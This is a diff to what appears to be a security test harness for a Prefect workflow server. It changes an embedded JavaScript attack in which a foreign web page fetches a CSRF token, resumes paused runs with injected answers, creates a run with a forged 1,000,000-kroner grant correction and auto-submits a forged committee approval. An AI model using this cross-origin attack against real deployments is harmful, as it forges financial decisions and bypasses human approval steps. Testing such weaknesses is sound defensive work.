@@ -30,11 +30,12 @@ TAG = "fra-en-fremmed"
 #: (nothing said of what it is; a form), read it through a frame, a script, a websocket. All that it got is returned.
 ATTACK = """async ({api, run, deployment, answer, correction, approval, tag}) => {
     const got = [];
+    let credentials = "omit";  // as it must be where every origin is allowed
     const ask = async (path, body, more = {}) => {
         try {
             const headers = body && !more.mode ? {"Content-Type": "application/json", ...more.headers} : {};
             const reply = await fetch(api + path, {
-                credentials: "include", method: body ? "POST" : "GET", ...more, headers,
+                credentials, method: body ? "POST" : "GET", ...more, headers,
                 body: body && (more.mode ? new Blob([JSON.stringify(body)]) : JSON.stringify(body)),
             });
             const said = await reply.text();
@@ -45,17 +46,18 @@ ATTACK = """async ({api, run, deployment, answer, correction, approval, tag}) =>
     const token = await ask("/csrf-token?client=fremmed");
     const headers = token ? {"Prefect-Csrf-Token": token.token, "Prefect-Csrf-Client": "fremmed"} : {};
     const paused = {flow_runs: {state: {type: {any_: ["PAUSED"]}}}};
-    await ask("/flow_runs/filter", paused, {headers});
-    await ask("/version");
-    for (const more of [{headers}, {mode: "no-cors"}]) {
+    for (const more of [{headers}, {headers}, {mode: "no-cors"}]) {
+        await ask("/version");
+        await ask("/flow_runs/filter", paused, more);
         await ask(`/flow_runs/${run}/resume`, {run_input: answer}, more);
         const made = await ask(`/deployments/${deployment}/create_flow_run`,
             {parameters: correction, tags: [tag]}, more);
         for (let tries = 0; made && tries < 60; tries++) {
             const done = await ask(`/flow_runs/${made.id}/resume`, {run_input: approval}, {headers});
-            if (done && done.status === "ACCEPT") break;
-            await new Promise(after => setTimeout(after, 1000));
+            if (!done || done.status === "ACCEPT") break;
+            await new Promise(after => setTimeout(after, 1000));  // until its form is there
         }
+        credentials = "include";
     }
     const form = document.createElement("form");
     Object.assign(form, {action: `${api}/deployments/${deployment}/create_flow_run`, method: "post",
@@ -150,16 +152,16 @@ def what_to_try(house: House, run: FlowRun) -> dict[str, Any]:
         "run": str(run.id),
         "deployment": str(deployment),
         "tag": TAG,
-        "answer": {
-            "svar": "Nej", "begrundelse": "skrevet af en fremmed hjemmeside", "hvem": "Fremmed",
-        },
+        "answer": {"svar": "Nej", "begrundelse": "skrevet af en fremmed hjemmeside"},
         "correction": {
             "rettelse": {
                 "aar": today().year, "hvad": "Bevillingen", "kroner": "1000000", "reference": "",
                 "begrundelse": "fremmed", "foreslaaet_af": "Puljeforvalteren",
             }
         },
-        "approval": {"svar": "Godkend", "hvem": "Udvalget", "grund": "Sag 2026-17"},
+        "approval": {
+            "svar": "Godkend", "hvem": "Udvalget", "besluttet": f"{today():%Y-%m-%d}", "sagsnummer": "2026-17",
+        },
     }  # fmt: skip
 
 
